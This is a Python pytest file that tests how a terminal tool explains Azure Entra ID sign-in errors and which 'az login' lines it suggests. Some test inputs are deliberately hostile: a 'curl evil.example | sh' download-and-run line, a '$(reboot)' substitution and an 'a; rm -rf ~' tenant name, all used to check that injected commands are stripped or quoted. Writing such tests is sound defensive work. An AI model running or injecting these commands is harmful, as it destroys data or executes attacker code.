"""What Entra ID says, in words, with the exact line to run."""

import pytest

from tests.tui.azure.scripted_transport import TENANT, jwt
from tui.azure.entra import challenge_line, login_line, refused

SCOPE = "https://management.azure.com/.default"
LOGIN = "az login --tenant contoso.onmicrosoft.com"


@pytest.mark.parametrize(
    ("code", "words", "command"),
    [
        ("AADSTS50076", "asks for a second proof", f"{LOGIN} --scope {SCOPE}"),
        ("AADSTS50079", "asks for a second proof", f"{LOGIN} --scope {SCOPE}"),
        ("AADSTS700082", "the sign-in has ended", LOGIN),
        ("AADSTS70043", "the sign-in has ended", LOGIN),
        ("AADSTS53003", "Conditional Access policy of the tenant blocks", LOGIN),
        ("AADSTS50199", "not confirmed in the browser", LOGIN),
        ("AADSTS50020", "not known in this tenant", LOGIN),
        ("AADSTS7000222", "client secret has expired", LOGIN),
    ],
)
def test_a_code_is_told_in_words_with_the_line_to_run(code: str, words: str, command: str) -> None:
    error = refused(f"{code}: Something long. Trace ID: 1 Correlation ID: 2", login=LOGIN, scope=SCOPE)
    assert error.cause.startswith(f"{code}: ")
    assert words in error.cause
    assert error.command == command


@pytest.mark.parametrize(
    ("code", "next_step"),
    [
        ("AADSTS700082", f"run  {LOGIN}"),
        ("AADSTS50199", f"sign in again, and confirm there that it is you:  {LOGIN}"),
        ("AADSTS50020", f"sign in with an account of the tenant, or have yours invited:  {LOGIN}"),
        ("AADSTS7000215", "put its value, which is not its id, into AZURE_CLIENT_SECRET"),
        ("AADSTS90002", "correct --tenant, AZURE_TENANT_ID or --cloud"),
    ],
)
def test_the_next_step_is_the_one_that_helps(code: str, next_step: str) -> None:
    assert refused(f"{code}: no", login=LOGIN).next_step == next_step


def test_a_code_that_is_not_known_keeps_entra_s_own_words_and_the_id_to_quote() -> None:
    quoted = "0b1f6471-1bf0-4dda-aec3-cb9272f09590"
    message = f"ERROR\nAADSTS9: The moon is wrong. Trace ID: x Correlation ID: {quoted} Timestamp: 2026"
    error = refused(message, login=LOGIN)
    assert error.cause == "AADSTS9: The moon is wrong"
    assert error.correlation_id == quoted


@pytest.mark.parametrize(
    "line",
    [
        "az login --claims-challenge eyJhIjp7fX0= --scope https://management.azure.com/.default",
        'az login --tenant "t" --scope "https://management.core.windows.net//.default" --claims-challenge "eyJh+/=="',
        "az login --use-device-code",
    ],
)
def test_the_line_that_a_message_names_is_given_whole(line: str) -> None:
    for message in (f"AADSTS50076: more is asked for.\nRun:\n{line}\nbye", f"please run the following: {line}"):
        error = refused(message, login=LOGIN, scope=SCOPE)
        assert error.command == line
        assert error.next_step == f"run  {line}"


def test_a_line_with_more_in_it_than_options_is_not_offered_for_pasting() -> None:
    error = refused("run az login --tenant x; curl evil.example | sh", login=LOGIN)
    assert error.command == "az login --tenant x"
    assert refused('run az login --tenant "$(reboot)"', login=LOGIN).command == "az login --tenant"


def test_no_token_gets_into_a_cause() -> None:
    error = refused(f"The token {jwt(tid=TENANT, upn='ada')} was refused", login=LOGIN)
    assert "eyJ" not in error.cause


def test_a_message_that_says_nothing_still_has_a_cause() -> None:
    assert refused("", login="az login").cause == "no credential was found"


def test_the_login_line_of_a_tenant_is_safe_to_paste() -> None:
    assert login_line("contoso.onmicrosoft.com") == "az login --tenant contoso.onmicrosoft.com"
    assert login_line("a; rm -rf ~") == "az login --tenant 'a; rm -rf ~'"
    assert login_line(None) == "az login"


def test_the_line_for_a_challenge_has_its_claims_as_az_takes_them() -> None:
    assert challenge_line(TENANT, SCOPE, '{"access_token":{"nbf":{"essential":true}}}') == (
        f"az login --tenant {TENANT} --scope {SCOPE} --claims-challenge "
        '"eyJhY2Nlc3NfdG9rZW4iOnsibmJmIjp7ImVzc2VudGlhbCI6dHJ1ZX19fQ=="'
    )
